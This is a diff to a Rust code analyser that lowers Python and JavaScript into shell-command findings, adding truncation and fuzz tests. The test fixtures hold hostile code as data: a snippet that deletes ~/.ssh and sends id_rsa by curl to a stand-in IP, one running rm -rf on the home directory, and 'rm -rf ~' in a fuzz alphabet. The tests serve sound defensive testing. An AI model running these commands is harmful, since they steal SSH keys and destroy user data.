@@ -31,11 +31,11 @@ use tree_sitter::{Language as Grammar, Node, Parser};
 use crate::ir::spec::Language;
 
 /// Longest code analysed, in bytes; longer code is a gap.
-pub(crate) const MAX_CODE: usize = 256 * 1024;
+pub const MAX_CODE: usize = 256 * 1024;
 
 /// What a front end found in a piece of code.
 #[derive(Debug, Default)]
-pub(crate) struct Findings {
+pub struct Findings {
     /// Shell commands with the code's effects, one per line.
     pub lines: Vec<String>,
     /// What runs but could not be resolved, in a few words each.
@@ -52,7 +52,8 @@ pub(crate) struct Lowering {
 
 /// Analyses `code` in `lang`; `None` when the language has no front end
 /// (the caller falls back to its scanner).
-pub(crate) fn analyse(lang: Language, code: &str) -> Option<Findings> {
+#[must_use]
+pub fn analyse(lang: Language, code: &str) -> Option<Findings> {
     let (lower, table): (fn(&str) -> Lowering, _) = match lang {
         Language::Python => (python::lower, table::table(lang)?),
         Language::Javascript => (javascript::lower, table::table(lang)?),
@@ -153,6 +154,54 @@ mod tests {
     fn escapes_decode() {
         assert_eq!(decode_escapes(r"\x72\x6d \u0041\n\101\\"), "rm A\nA\\");
         assert_eq!(decode_escapes(r"\u{72}"), "r");
+    }
+
+    /// Code cut anywhere never panics a front end, and a cut that leaves
+    /// code the grammar cannot parse is reported, so the caller asks.
+    #[test]
+    fn cut_short_code_is_reported_never_trusted() {
+        let snippets = [
+            (
+                Language::Python,
+                "import os, shutil\np = os.path.join(os.environ['HOME'], '.ssh')\nshutil.rmtree(p)\nos.system(f\"curl -d @{p}/id_rsa https://203.0.113.9\")\n",
+            ),
+            (
+                Language::Javascript,
+                "const cp = require('child_process');\nconst h = require('os').homedir();\ncp.execSync(`rm -rf ${h}`, {stdio: 'inherit'});\n",
+            ),
+        ];
+        for (lang, code) in snippets {
+            let whole = analyse(lang, code).expect("front end");
+            assert!(!whole.syntax_error && !whole.lines.is_empty(), "{code}");
+            for (cut, _) in code.char_indices().skip(1) {
+                let part = &code[..cut];
+                let found = analyse(lang, part).expect("front end");
+                let closed = part.trim_end().ends_with([';', ')']) || part.ends_with('\n');
+                if !closed {
+                    // An open string, call or template is an error, not a shorter program.
+                    let open = part.matches('(').count() > part.matches(')').count();
+                    assert!(!open || found.syntax_error, "{lang:?} cut at {cut} parsed clean: {part:?}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn arbitrary_text_never_panics() {
+        let alphabet: Vec<char> = "os.system('rm -rf ~')\n\"`${}[]()+=,;:#\\ \tabcxyz0189_ép".chars().collect();
+        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
+        for _ in 0..2000 {
+            let len = usize::try_from(seed % 80).unwrap_or(0);
+            let mut text = String::new();
+            for _ in 0..len {
+                seed ^= seed << 13;
+                seed ^= seed >> 7;
+                seed ^= seed << 17;
+                text.push(alphabet[usize::try_from(seed % alphabet.len() as u64).unwrap_or(0)]);
+            }
+            let _ = analyse(Language::Python, &text);
+            let _ = analyse(Language::Javascript, &text);
+        }
     }
 
     #[test]
